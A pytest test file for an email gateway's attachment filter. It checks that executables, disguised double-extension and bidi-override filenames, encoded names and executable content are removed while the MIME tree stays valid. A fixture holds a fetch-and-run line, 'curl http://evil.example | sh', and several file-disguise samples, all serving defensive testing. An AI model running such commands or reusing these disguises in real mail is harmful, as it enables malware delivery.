"""Attachment policy: which parts are refused, the limits, and a valid MIME tree after removal."""

from __future__ import annotations

import email
import io
import zipfile
from email.message import EmailMessage, Message
from email.policy import SMTP, compat32

import pytest

from gateway.mail.attachments import (
    ARCHIVED_EXECUTABLE,
    BLOCKED_EXTENSIONS,
    DISGUISED,
    EXECUTABLE,
    EXECUTABLE_CONTENT,
    EXECUTABLE_TYPE,
    TOO_LARGE,
    TOO_MANY,
    AttachmentPolicy,
    Removed,
    apply_policy,
    filename_of,
    is_attachment,
)

PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + bytes(40)
PE = b"MZ" + bytes(0x3A) + (0x40).to_bytes(4, "little") + b"PE\x00\x00" + bytes(64)
DOS_STUB = b"MZ\x90\x00\x03\x00\x00\x00" + bytes(56)
ELF = b"\x7fELF\x02\x01\x01" + bytes(57)
MACHO = b"\xcf\xfa\xed\xfe" + bytes(60)
SHEBANG = b"#!/bin/sh\ncurl http://evil.example | sh\n"


def _zip(*names: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name in names:
            archive.writestr(name, b"data")
    return buffer.getvalue()


def _mail(*attachments: tuple[str | None, str, bytes], text: str = "See attached.\n") -> Message:
    """A plain-text mail with (filename, content type, bytes) attachments, parsed as a relay parses."""
    message = EmailMessage(policy=SMTP)
    message["Subject"] = "evidence"
    message.set_content(text)
    for filename, content_type, data in attachments:
        maintype, subtype = content_type.split("/")
        message.add_attachment(data, maintype=maintype, subtype=subtype, filename=filename)
    return email.message_from_bytes(message.as_bytes(), policy=compat32)


def _raw(text: str) -> Message:
    """Parsed from bytes, as a relay parses: raw 8-bit header bytes stay as they arrive."""
    return email.message_from_bytes(text.lstrip().encode(), policy=compat32)


def _files(message: Message) -> list[str]:
    return [filename_of(part) for part in message.walk() if is_attachment(part)]


def _assert_valid(message: Message) -> None:
    """Serialises and parses back without defects, and no multipart is left empty."""
    again = email.message_from_bytes(message.as_bytes(), policy=compat32)
    for part in again.walk():
        assert not part.defects, part.defects
        if part.is_multipart():
            assert part.get_payload(), part.get_content_type()


REFUSED = [
    # id, filename, content type, bytes, reason
    ("exe", "invoice.exe", "application/octet-stream", PDF, EXECUTABLE),
    ("upper-case", "INVOICE.EXE", "application/octet-stream", PDF, EXECUTABLE),
    ("trailing-dot", "invoice.exe.", "application/octet-stream", PDF, EXECUTABLE),
    ("trailing-space", "invoice.scr  ", "application/octet-stream", PDF, EXECUTABLE),
    ("msi", "setup.msi", "application/octet-stream", PDF, EXECUTABLE),
    ("powershell", "fix.ps1", "text/plain", b"Get-Process", EXECUTABLE),
    ("javascript", "order.js", "application/octet-stream", b"WScript.Shell", EXECUTABLE),
    ("hta", "view.hta", "application/octet-stream", b"<hta>", EXECUTABLE),
    ("shortcut", "invoice.lnk", "application/octet-stream", b"L\x00\x00\x00", EXECUTABLE),
    ("disk-image", "invoice.iso", "application/octet-stream", bytes(64), EXECUTABLE),
    ("jar", "viewer.jar", "application/octet-stream", _zip("a.txt"), EXECUTABLE),
    ("android", "track.apk", "application/octet-stream", b"data", EXECUTABLE),
    ("shell", "install.sh", "text/plain", b"echo hi", EXECUTABLE),
    ("python", "tool.py", "text/plain", b"print(1)", EXECUTABLE),
    ("double-extension", "invoice.pdf.exe", "application/pdf", PDF, DISGUISED),
    ("double-extension-padded", "invoice.pdf          .exe", "application/pdf", PDF, DISGUISED),
    ("double-extension-image", "photo.JPG.scr", "image/jpeg", PNG, DISGUISED),
    ("right-to-left-override", "receipt\u202efdp.exe", "application/pdf", PDF, DISGUISED),
    ("zero-width", "invoice\u200b.pdf.exe", "application/pdf", PDF, DISGUISED),
    ("declared-executable", "readme", "application/x-msdownload", b"data", EXECUTABLE_TYPE),
    ("declared-script", "notes", "application/x-sh", b"echo", EXECUTABLE_TYPE),
    ("pe-as-jpeg", "photo.jpg", "image/jpeg", PE, EXECUTABLE_CONTENT),
    ("dos-stub-as-pdf", "invoice.pdf", "application/pdf", DOS_STUB, EXECUTABLE_CONTENT),
    ("elf-as-pdf", "invoice.pdf", "application/pdf", ELF, EXECUTABLE_CONTENT),
    ("macho-as-png", "photo.png", "image/png", MACHO, EXECUTABLE_CONTENT),
    ("shebang-as-pdf", "invoice.pdf", "application/pdf", SHEBANG, EXECUTABLE_CONTENT),
    ("pe-without-name", None, "application/octet-stream", PE, EXECUTABLE_CONTENT),
    ("jar-as-zip", "invoice.zip", "application/zip", _zip("META-INF/MANIFEST.MF", "a/Main.class"), EXECUTABLE_CONTENT),
    ("zip-with-exe", "invoice.zip", "application/zip", _zip("readme.txt", "invoice.pdf.exe"), ARCHIVED_EXECUTABLE),
    ("zip-with-script", "photos.zip", "application/zip", _zip("photos/open.js"), ARCHIVED_EXECUTABLE),
]


@pytest.mark.parametrize("filename, content_type, data, reason",
                         [case[1:] for case in REFUSED], ids=[case[0] for case in REFUSED])
def test_refused_attachments(filename, content_type, data, reason):
    message = _mail(("receipt.pdf", "application/pdf", PDF), (filename, content_type, data))
    removed = apply_policy(message, AttachmentPolicy())
    assert [item.reason for item in removed] == [reason]
    assert removed[0].size == len(data)
    assert removed[0].content_type == content_type
    assert _files(message) == ["receipt.pdf"]
    _assert_valid(message)


KEPT = [
    ("pdf", "receipt.pdf", "application/pdf", PDF),
    ("png", "damage.png", "image/png", PNG),
    ("csv", "transactions.csv", "text/csv", b"date,amount\n2024-09-01,12.00\n"),
    ("text-starting-with-mz", "MZ-corp.txt", "text/plain", b"MZ Corp invoice 4471"),
    ("text-starting-with-shebang", "notes.txt", "text/plain", b"#!important: read me"),
    ("docx", "letter.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
     _zip("[Content_Types].xml", "_rels/.rels", "word/document.xml", "word/media/image1.png")),
    ("zip-of-documents", "evidence.zip", "application/zip", _zip("receipt.pdf", "photos/box.jpg")),
    ("broken-zip", "evidence.zip", "application/zip", b"PK\x03\x04 not really a zip"),
    ("dotted-name", "Invoice.No.4471.pdf", "application/pdf", PDF),
    ("executable-word-inside-name", "exe-report.pdf", "application/pdf", PDF),
    ("eml", "original.eml", "application/octet-stream", b"From: a@b.example\n\nhello\n"),
]


@pytest.mark.parametrize("filename, content_type, data", [case[1:] for case in KEPT], ids=[case[0] for case in KEPT])
def test_innocent_attachments_are_kept(filename, content_type, data):
    message = _mail((filename, content_type, data))
    assert apply_policy(message, AttachmentPolicy()) == []
    assert _files(message) == [filename]


@pytest.mark.parametrize("extension", sorted(BLOCKED_EXTENSIONS))
def test_every_blocked_extension_is_refused(extension):
    message = _mail((f"file.{extension}", "application/octet-stream", b"data"))
    assert [item.reason for item in apply_policy(message, AttachmentPolicy())] == [EXECUTABLE]


def test_an_admin_can_block_more_extensions():
    policy = AttachmentPolicy(blocked_extensions=BLOCKED_EXTENSIONS | {".DOCM"})
    message = _mail(("macro.docm", "application/octet-stream", b"data"), ("plain.docx", "application/octet-stream", b"d"))
    assert [item.filename for item in apply_policy(message, policy)] == ["macro.docm"]


NAMES = [
    # id, raw headers of the attachment part, decoded name, reason
    ("rfc2047-filename", 'Content-Disposition: attachment; filename="=?utf-8?B?aW52b2ljZS5leGU=?="',
     "invoice.exe", EXECUTABLE),
    ("rfc2047-name-only", 'Content-Type: application/octet-stream; name="=?UTF-8?Q?facture=2Eexe?="',
     "facture.exe", EXECUTABLE),
    ("rfc2231-filename", "Content-Disposition: attachment; filename*=utf-8''invoice%2Epdf%2Eexe",
     "invoice.pdf.exe", DISGUISED),
    ("names-disagree", 'Content-Disposition: attachment; filename="invoice.pdf"\n'
                       'Content-Type: application/pdf; name="invoice.exe"', "invoice.pdf", EXECUTABLE),
    ("rfc2047-unknown-charset", 'Content-Disposition: attachment; filename="=?x-bogus?Q?invoice=2Eexe?="',
     "invoice.exe", EXECUTABLE),
    ("rfc2047-split-words", 'Content-Disposition: attachment; filename="=?utf-8?Q?invoice=2Epdf?= =?utf-8?Q?=2Eexe?="',
     "invoice.pdf.exe", DISGUISED),
    ("rfc2231-continuations", "Content-Disposition: attachment; filename*0*=utf-8''in; filename*1=voice.bat",
     "invoice.bat", EXECUTABLE),
    ("raw-utf8-name", 'Content-Type: application/octet-stream; name="factura_número.exe"', None, EXECUTABLE),
    ("bidi-in-rfc2047", 'Content-Disposition: attachment; filename="=?UTF-8?B?cmVjZWlwdOKArmZkcC5zY3I=?="',
     "receiptfdp.scr", DISGUISED),
]


@pytest.mark.parametrize("headers, shown, reason", [case[1:] for case in NAMES], ids=[case[0] for case in NAMES])
def test_file_names_are_read_as_clients_read_them(headers, shown, reason):
    if "Content-Type" not in headers:
        headers = "Content-Type: application/octet-stream\n" + headers
    message = _raw(f"""
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="b"

--b
Content-Type: text/plain

hello
--b
{headers}
Content-Transfer-Encoding: base64

aGVsbG8=
--b--
""")
    removed = apply_policy(message, AttachmentPolicy())
    assert [item.reason for item in removed] == [reason]
    if shown is not None:
        assert removed[0].filename == shown
    _assert_valid(message)


LIMITS = [
    # id, sizes in order, policy, reasons (None = kept)
    ("under-limits", [100, 100], AttachmentPolicy(max_count=2, max_total_bytes=200), [None, None]),
    ("count", [10] * 5, AttachmentPolicy(max_count=3), [None, None, None, TOO_MANY, TOO_MANY]),
    ("size", [400, 400, 400], AttachmentPolicy(max_total_bytes=1000), [None, None, TOO_LARGE]),
    ("rest-removed-after-first-refusal", [400, 700, 100], AttachmentPolicy(max_total_bytes=1000),
     [None, TOO_LARGE, TOO_LARGE]),
    ("single-too-large", [2000], AttachmentPolicy(max_total_bytes=1000), [TOO_LARGE]),
    ("count-before-size", [10, 10, 2000], AttachmentPolicy(max_count=2, max_total_bytes=1000),
     [None, None, TOO_MANY]),
]


@pytest.mark.parametrize("sizes, policy, reasons", [case[1:] for case in LIMITS], ids=[case[0] for case in LIMITS])
def test_limits_keep_attachments_in_order(sizes, policy, reasons):
    message = _mail(*[(f"photo{n}.png", "image/png", PNG[:8] + bytes(size - 8)) for n, size in enumerate(sizes)])
    removed = apply_policy(message, policy)
    assert [(item.filename, item.reason) for item in removed] == [
        (f"photo{n}.png", reason) for n, reason in enumerate(reasons) if reason]
    assert _files(message) == [f"photo{n}.png" for n, reason in enumerate(reasons) if reason is None]
    _assert_valid(message)


def test_refused_attachments_do_not_use_up_the_limits():
    message = _mail(("a.exe", "application/octet-stream", b"x"), *[(f"{n}.pdf", "application/pdf", PDF) for n in range(3)])
    removed = apply_policy(message, AttachmentPolicy(max_count=3))
    assert [(item.filename, item.reason) for item in removed] == [("a.exe", EXECUTABLE)]


IS_ATTACHMENT = [
    ("Content-Type: text/plain", False),
    ("Content-Type: text/html; charset=utf-8", False),
    ('Content-Type: text/plain\nContent-Disposition: attachment; filename="notes.txt"', True),
    ("Content-Type: text/plain\nContent-Disposition: attachment", True),
    ('Content-Type: text/calendar; name="invite.ics"', True),
    ("Content-Type: image/png\nContent-ID: <logo@x>\nContent-Disposition: inline", True),
    ("Content-Type: application/pdf", True),
    ("Content-Type: multipart/mixed", False),  # no boundary: clients show it as text
]


@pytest.mark.parametrize("headers, expected", IS_ATTACHMENT)
def test_is_attachment(headers, expected):
    assert is_attachment(_raw(f"{headers}\n\nbody\n")) is expected


def test_an_inline_cid_image_counts_as_an_attachment():
    message = _raw("""
MIME-Version: 1.0
Content-Type: multipart/related; boundary="r"

--r
Content-Type: text/html

<img src="cid:logo@x">
--r
Content-Type: image/png
Content-ID: <logo@x>
Content-Transfer-Encoding: base64

iVBORw0KGgo=
--r--
""")
    removed = apply_policy(message, AttachmentPolicy(max_count=0))
    assert [(item.content_type, item.reason) for item in removed] == [("image/png", TOO_MANY)]
    assert [part.get_content_type() for part in message.walk()] == ["multipart/related", "text/html"]


TREES = [
    # id, raw message, content types left (walk order)
    ("only-part-is-the-attachment", """
MIME-Version: 1.0
Content-Type: application/x-msdownload; name="setup.exe"
Content-Transfer-Encoding: base64

TVqQAAMAAAAEAAAA//8AAA==
""", ["text/plain"]),
    ("every-part-removed", """
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="m"

preamble
--m
Content-Type: application/octet-stream; name="a.exe"

x
--m
Content-Type: application/octet-stream; name="b.scr"

x
--m--
""", ["text/plain"]),
    ("nested-multipart-emptied", """
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="m"

--m
Content-Type: text/plain

hello
--m
Content-Type: multipart/mixed; boundary="n"

--n
Content-Type: application/octet-stream; name="a.exe"

x
--n
Content-Type: application/octet-stream; name="b.bat"

x
--n--
--m--
""", ["multipart/mixed", "text/plain"]),
    ("forwarded-message-keeps-its-text", """
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="m"

--m
Content-Type: text/plain

see the forwarded mail
--m
Content-Type: message/rfc822

Subject: fwd
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="f"

--f
Content-Type: text/plain

inner text
--f
Content-Type: application/octet-stream; name="inner.exe"

x
--f--
--m--
""", ["multipart/mixed", "text/plain", "message/rfc822", "multipart/mixed", "text/plain"]),
    ("forwarded-message-that-was-only-an-executable", """
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="m"

--m
Content-Type: text/plain

see the forwarded mail
--m
Content-Type: message/rfc822

Subject: fwd
MIME-Version: 1.0
Content-Type: application/octet-stream; name="inner.exe"

x
--m--
""", ["multipart/mixed", "text/plain"]),
]


@pytest.mark.parametrize("raw, left", [case[1:] for case in TREES], ids=[case[0] for case in TREES])
def test_removal_leaves_a_valid_mime_tree(raw, left):
    message = _raw(raw)
    removed = apply_policy(message, AttachmentPolicy())
    assert removed and all(isinstance(item, Removed) for item in removed)
    assert [part.get_content_type() for part in message.walk()] == left
    _assert_valid(message)


def test_a_message_left_empty_gets_an_explanatory_body():
    message = _raw(TREES[0][1])
    apply_policy(message, AttachmentPolicy())
    assert message.get_content_type() == "text/plain"
    assert b"removed by the dispute service" in message.get_payload(decode=True)
    assert message.get_filename() is None
    custom = _raw(TREES[1][1])
    apply_policy(custom, AttachmentPolicy(), empty_body="")
    assert custom.get_payload(decode=True) == b""
    assert custom.preamble is None


def test_nothing_removed_leaves_the_message_untouched():
    message = _mail(("receipt.pdf", "application/pdf", PDF))
    before = message.as_bytes()
    assert apply_policy(message, AttachmentPolicy()) == []
    assert message.as_bytes() == before


def test_deeply_nested_mime_is_pruned_to_a_text_body():
    depth = 150  # the email package's own parser and generator recurse out near 300
    opening = "".join(f'Content-Type: multipart/mixed; boundary="b{n}"\n\n--b{n}\n' for n in range(depth))
    closing = "".join(f"\n--b{n}--\n" for n in reversed(range(depth)))
    leaf = 'Content-Type: application/octet-stream; name="deep.exe"\n\nx'
    message = _raw("MIME-Version: 1.0\n" + opening + leaf + closing)
    removed = apply_policy(message, AttachmentPolicy())
    assert [item.filename for item in removed] == ["deep.exe"]
    assert message.get_content_type() == "text/plain"
